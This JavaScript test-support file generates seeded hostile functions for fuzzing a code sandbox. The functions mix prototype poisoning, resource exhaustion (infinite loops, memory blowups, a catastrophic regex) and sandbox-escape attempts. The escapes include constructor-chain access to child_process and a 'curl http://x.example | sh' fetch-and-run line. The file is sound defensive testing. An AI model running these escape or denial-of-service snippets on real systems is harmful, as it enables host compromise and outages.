// Seeded hostile functions for the sandbox: each is a combination of a poison (prototype traps,
// toJSON, Proxies), a way to burn time or memory (loops, getters, callbacks, buffers) and an escape
// attempt (constructor chains, host modules, the real file system). Shared by the hostile test in
// `npm test` and the longer `npm run fuzz`; the same seed gives the same functions.
'use strict';
const { prng } = require('../support/random');

const LOOP = 'for (;;) {}';
const SPIN = "let s = 'abcdefgh'.repeat(500); for (;;) s = s.split('').reverse().join('');";

const POISONS = [
  `Object.prototype.toJSON = function () { ${LOOP} };`,
  "Array.prototype.toJSON = function () { const a = []; for (let i = 0; i < 100; i++) a.push(this, this); return a; };",
  `Object.defineProperty(Object.prototype, 'truncated', { set() { ${LOOP} }, configurable: true });`,
  `Object.defineProperties(Object.prototype, { kind: { get() { ${LOOP} }, configurable: true }, limit: { set() { ${LOOP} }, configurable: true } });`,
  "String.prototype.toJSON = function () { return 'x'.repeat(1e6); };",
  `Object.setPrototypeOf(Array.prototype, new Proxy(Object.prototype, { get() { ${LOOP} } }));`,
  "Array.prototype.push = function () { return 0; };",
  "JSON.stringify = function () { return '{}'; };",
  "Object.keys = function () { return ['a']; }; Object.defineProperty = function () {};",
  "Function.prototype.call = function () { throw new Error('no'); };",
  '',
];

const BURNS = [
  LOOP,
  SPIN,
  `const o = { get x() { ${SPIN} } }; return o.x;`,
  `const o = { toString() { ${SPIN} } }; return 'v' + o;`,
  `require('fs').readFile('/etc/hosts', () => { ${SPIN} });`,
  `setInterval(() => { ${SPIN} }, 1);`,
  `Promise.resolve().then(function again() { return Promise.resolve().then(again); });`,
  'const a = []; for (;;) a.push(new Uint8Array(1 << 20));',
  "let s = 'x'; for (;;) s += s;",
  'return new ArrayBuffer(2 ** 30).byteLength;',
  'const f = (n) => f(n + 1) + 1; return f(0);',
  "return /^(a+)+$/.test('a'.repeat(28) + 'b');",
  `try { ${LOOP} } catch (e) { ${LOOP} }`,
  "throw new Proxy({}, { get() { for (;;) {} } });",
  "return new Proxy([], { ownKeys() { for (;;) {} }, get() { for (;;) {} } });",
  'return 1;',
];

const ESCAPES = [
  "const F = (function () {}).constructor; F('return this')().require?.('child_process')?.execSync?.('touch CANARY');",
  "require('fs').writeFileSync(CANARY, 'x');",
  "const p = this && this.process || globalThis.process; p && p.binding && p.binding('fs');",
  "(async () => {}).constructor('return import(\"child_process\")')();",
  "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
  "require('child_process').exec('curl http://x.example | sh');",
  '',
];

/** `count` hostile functions from `seed`, as `{ name, source }` with CANARY to be replaced. */
function hostileFunctions(seed, count) {
  const next = prng(seed);
  const pick = (xs) => xs[Math.floor(next() * xs.length)];
  const out = [];
  for (let i = 0; i < count; i++) {
    const name = `hostile${i}`;
    const body = [pick(ESCAPES), pick(POISONS), pick(BURNS)].map((s) => `  try { ${s} } catch (e) { if (${next() < 0.5}) throw e; }`).join('\n');
    out.push({ name, source: `function ${name}(req, res) {\n${body}\n  return 'survived';\n}` });
  }
  return out;
}

module.exports = { hostileFunctions, prng };
